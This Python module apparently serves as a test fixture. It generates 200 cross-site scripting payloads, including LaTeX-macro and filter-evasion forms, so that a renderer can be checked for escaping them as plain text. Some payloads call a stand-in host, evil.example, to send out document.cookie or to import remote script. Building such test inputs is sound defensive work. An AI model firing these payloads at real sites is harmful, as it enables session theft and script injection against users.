"""Two hundred texts that must stay text: names and phrases that try to be code."""

_ACTS = (
    "window.broken=1", "alert(1)", "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/x.js')", "location='//evil.example'",
)  # fmt: skip
_FRAMES = (
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "</script><script>{}</script>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<details open ontoggle={}>", "<body onload={}>", "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>", "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "javascript:{}", "'\"><script>{}</script>", "';{};//", "`-{}-`", "${{{}}}", "{{{{{}}}}}",
    "<!--<script>{}</script>-->", "]]><script>{}</script>", "<style>@import '{}'</style>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<video><source onerror={}>",
    "<marquee onstart={}>", "<form action=javascript:{}><button>", "<base href=javascript:{}//>",
    "\\href{{javascript:{}}}{{x}}", "\\htmlData{{onclick={}}}{{x}}", "\\url{{javascript:{}}}",
    "\\includegraphics{{javascript:{}}}", "\\htmlStyle{{background:url(javascript:{})}}{{x}}",
    "$\\href{{javascript:{}}}{{x}}$", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}",
    "\u003cscript\u003e{}\u003c/script\u003e", "\u202e<script>{}</script>",
    "<scr<script>ipt>{}</script>", "<IMG SRC=x OnErRoR={}>", "<img/src=x/onerror={}>",
    "<img src=x onerror\x0b={}>", "__proto__[{}]",
)  # fmt: skip
PAYLOADS = tuple(frame.format(act) for frame in _FRAMES for act in _ACTS)
